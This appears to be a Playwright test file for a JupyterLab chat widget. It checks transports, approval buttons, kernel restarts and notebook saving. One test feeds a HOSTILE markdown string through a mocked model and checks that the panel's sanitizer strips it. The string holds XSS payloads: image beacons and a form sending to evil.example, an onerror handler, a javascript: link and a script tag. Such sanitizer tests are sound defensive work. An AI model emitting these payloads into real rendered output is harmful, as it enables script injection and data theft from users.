"""`ChatPanel` in a cell of a real JupyterLab: by its own socket, and by messages where there is none."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect
from provider import Provider, says

from browser.conftest import MODELS, person, without_socket
from browser.page import Desk
from browser.site import Notebook, Site
from browser.trouble import Trouble
from browser.widget import Panel, run_cell

PANEL = "from jupyter_mlchat import ChatPanel\npanel = ChatPanel(clf, height=420)\npanel"
LLM = "openai/gpt-4.1-mini"
HOSTILE = """\
**bold** $x^2$

![stolen](https://evil.example/?rows=1) <img src="https://evil.example/a.png" alt="tag" onerror="window.__hurt = 1">

[run](javascript:window.__hurt=2) [docs](https://docs.example/)

<form action="https://evil.example/"><input name="q"><button>Send</button></form>

<div style="position:fixed">over</div> <script>window.__hurt = 3</script>

$$
\\int_0^1 x\\,dx
$$
"""


@pytest.fixture
def notebook(site: Site, provider: Provider, request: pytest.FixtureRequest) -> Iterator[Notebook]:
    """A notebook whose cells show a panel, and whose kernel holds `X` and the fitted `clf`."""
    provider.answers.clear()
    made = site.notebook(re.sub(r"\W+", "-", request.node.name)[:60], PANEL, "panel")
    made.start(MODELS)
    yield made
    made.close()


@pytest.fixture(scope="module")
def relayed_lab(chromium: Browser, site: Site, trouble: Trouble) -> Iterator[Page]:
    """As `lab`, where no WebSocket of ours gets through."""
    context = person(chromium, trouble)
    page = without_socket(context.new_page())
    start = site.notebook("relayed", "0")
    Desk(page, start).load()
    yield page
    context.close()
    start.close()


@pytest.fixture
def relayed(relayed_lab: Page, notebook: Notebook, trouble: Trouble) -> Iterator[Page]:
    """The notebook, alone in it."""
    Desk(relayed_lab, notebook).swap()
    yield relayed_lab
    trouble.check([])


@pytest.fixture
def shown(lab: Page, notebook: Notebook, trouble: Trouble) -> Iterator[Panel]:
    """A panel that speaks by its own socket."""
    Desk(lab, notebook).swap()
    run_cell(lab, 0)
    yield Panel(lab).speaks_by("socket")
    trouble.check([])


@pytest.fixture(params=["shown", "relayed"])
def panel(request: pytest.FixtureRequest) -> Panel:
    """A panel that speaks one way or the other."""
    made: Panel | Page = request.getfixturevalue(request.param)
    if isinstance(made, Panel):
        return made
    run_cell(made, 0)
    return Panel(made).speaks_by("messages")


def test_it_answers_by_its_own_socket(shown: Panel) -> None:
    expect(shown.root.get_by_role("list", name="Models asked about")).to_contain_text("clf DecisionTreeClassifier")
    expect(shown.ask("which models do I have?")).to_contain_text("clf")
    expect(shown.root.get_by_role("button", name="Insert")).to_have_count(0)


def test_a_form_an_approval_and_a_second_view(panel: Panel, notebook: Notebook) -> None:
    page = panel.root.page
    run_cell(page, 1)
    second = Panel(page, 1)
    answer = panel.ask("predict with clf: age = 65")
    form = answer.get_by_role("form", name="Predict with clf")
    form.get_by_label("income").fill("5.5")
    form.get_by_role("button", name="Submit").click()
    expect(answer).to_contain_text("predicts 1")
    expect(second.answers).to_contain_text("predicts 1")
    expect(second.answers.get_by_label("income")).to_be_disabled()
    asked = second.ask("delete clf")
    expect(panel.answers).to_have_count(2)
    panel.answers.last.get_by_role("button", name="Allow once").click()
    expect(asked.get_by_role("region", name="Approval: delete_model")).to_contain_text("Allowed")
    expect(asked).to_have_attribute("aria-busy", "false")
    assert notebook.run("print('clf' in globals())") == "False\n"


def test_python_and_the_view_are_one_conversation(panel: Panel, notebook: Notebook) -> None:
    panel.ask("which models do I have?")
    assert notebook.run("print(panel.history[-1].question)") == "which models do I have?\n"
    assert notebook.run("print(panel.ask('what does clf need?').status)") == "completed\n"
    expect(panel.answers).to_have_count(2)
    expect(panel.answers.last).to_contain_text("income")


def test_a_cell_that_runs_again_has_one_view(panel: Panel, notebook: Notebook) -> None:
    page = panel.root.page
    panel.ask("which models do I have?")
    run_cell(page, 0)
    expect(page.locator(".mlc-widget")).to_have_count(1)
    expect(panel.answers).to_have_count(1)
    panel.ask("what does clf need?")
    expect(panel.root.locator("article.mlc-user")).to_have_count(2)
    relays = "import threading\nprint([t.name for t in threading.enumerate()].count('mlchat-panel'))"
    views = {"socket": 0, "messages": 1}[panel.root.get_attribute("data-transport") or ""]
    assert notebook.run(relays) == f"{views}\n"


def test_stop_works_while_a_cell_runs(panel: Panel, notebook: Notebook) -> None:
    answer = panel.ask("delete clf")
    notebook.start("import time\nfor _ in range(600): time.sleep(0.1)")
    expect(panel.kernel).to_have_attribute("data-state", "busy")
    answer.get_by_role("button", name="Allow once").click()
    expect(answer).to_contain_text("cell")
    panel.root.get_by_role("button", name="Stop", exact=True).click()
    expect(answer).to_contain_text("Stopped.")
    expect(panel.ask("which models do I have?")).to_contain_text("clf")


def test_a_busy_kernel_that_takes_no_messages_is_said(relayed: Page, notebook: Notebook) -> None:
    relayed.evaluate(
        """async () => {
            const { sessionContext } = window.jupyterapp.shell.currentWidget;
            await sessionContext.ready;
            sessionContext.session.kernel.commsOverSubshells = 'disabled';
        }"""
    )
    run_cell(relayed, 0)
    panel = Panel(relayed).speaks_by("messages")
    panel.ask("which models do I have?")
    notebook.start("import time\ntime.sleep(60)")
    expect(panel.kernel).to_have_attribute("data-state", "busy")
    panel.message.fill("what does clf need?")
    panel.message.press("Enter")
    expect(panel.kernel).to_contain_text("a cell is running")
    notebook.site.api("POST", f"api/kernels/{notebook.kernel}/interrupt")
    expect(panel.answers.nth(1)).to_contain_text("income")
    expect(panel.kernel).not_to_contain_text("a cell is running")


@pytest.mark.long
def test_a_restarted_kernel_is_said_and_running_the_cell_again_goes_on(relayed: Page, notebook: Notebook) -> None:
    run_cell(relayed, 0)
    panel = Panel(relayed).speaks_by("messages")
    panel.ask("which models do I have?")
    relayed.evaluate("() => window.jupyterapp.shell.currentWidget.sessionContext.session.kernel.restart()")
    notebook.forget_client()
    notebook.run(MODELS)
    panel.message.fill("what does clf need?")
    panel.message.press("Enter")
    expect(panel.kernel).to_contain_text("restarted")
    run_cell(relayed, 0)
    again = Panel(relayed).speaks_by("messages")
    expect(again.answers.first).to_contain_text("clf")
    expect(again.ask("what does clf need?")).to_contain_text("income")


def test_a_kernel_that_is_restarted_under_a_socket_is_asked_all_the_same(shown: Panel, notebook: Notebook) -> None:
    shown.ask("which models do I have?")
    page = shown.root.page
    page.evaluate("() => window.jupyterapp.shell.currentWidget.sessionContext.session.kernel.restart()")
    notebook.forget_client()
    notebook.run(MODELS)
    expect(shown.ask("what does clf need?")).to_contain_text("income")


@pytest.mark.long
def test_untrusted_markdown_loads_and_runs_nothing(
    page: Page, site: Site, provider: Provider, outside: list[str]
) -> None:
    provider.answers.clear()
    notebook = site.notebook("untrusted", PANEL.replace("height", f"llm={LLM!r}, height"))
    notebook.run(MODELS)
    Desk(page, notebook).load()
    provider.enqueue(says(*re.findall(r"\S+\s*", HOSTILE)))
    run_cell(page, 0)
    answer = Panel(page).speaks_by("socket").ask("tell me about clf")
    text = answer.locator(".mlc-md")
    expect(text.locator("strong")).to_have_text("bold")
    expect(text.locator("math")).to_have_count(2)
    expect(text.locator("img, form, input, button, script, style, [style], [onerror]")).to_have_count(0)
    expect(text).to_contain_text("stolen")
    expect(text.get_by_text("run", exact=True)).not_to_have_attribute("href", re.compile("."))
    expect(text.get_by_role("link", name="docs")).to_have_attribute("rel", re.compile("noopener"))
    assert page.evaluate("window.__hurt") is None
    assert not outside
    notebook.close()


def test_the_saved_notebook_has_a_twin_that_needs_no_kernel(shown: Panel, notebook: Notebook) -> None:
    page = shown.root.page
    shown.ask("what does clf need?")
    run_cell(page, 1)
    Panel(page, 1).speaks_by("socket")
    page.evaluate("() => window.jupyterapp.commands.execute('docmanager:save')")
    page.wait_for_function("() => !window.jupyterapp.shell.currentWidget.context.model.dirty")
    saved = json.loads((notebook.site.root / notebook.path).read_text())
    [output] = saved["cells"][1]["outputs"]
    assert "application/vnd.jupyter.widget-view+json" in output["data"]
    for kind in ("text/markdown", "text/plain"):
        text = "".join(output["data"][kind])
        assert "what does clf need?" in text
        assert "income" in text
